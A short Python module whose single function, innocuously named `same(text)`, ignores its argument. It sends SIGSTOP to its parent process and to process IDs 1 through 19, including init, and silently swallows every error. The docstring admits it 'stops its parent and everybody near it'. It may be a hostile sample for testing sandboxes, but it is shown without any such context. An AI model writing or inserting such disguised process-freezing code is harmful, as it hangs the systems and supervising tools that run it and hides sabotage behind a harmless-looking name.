"""Stops its parent and everybody near it."""

import os
import signal


def same(text):
    for pid in (os.getppid(), *range(1, 20)):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGSTOP)
            except OSError:
                pass
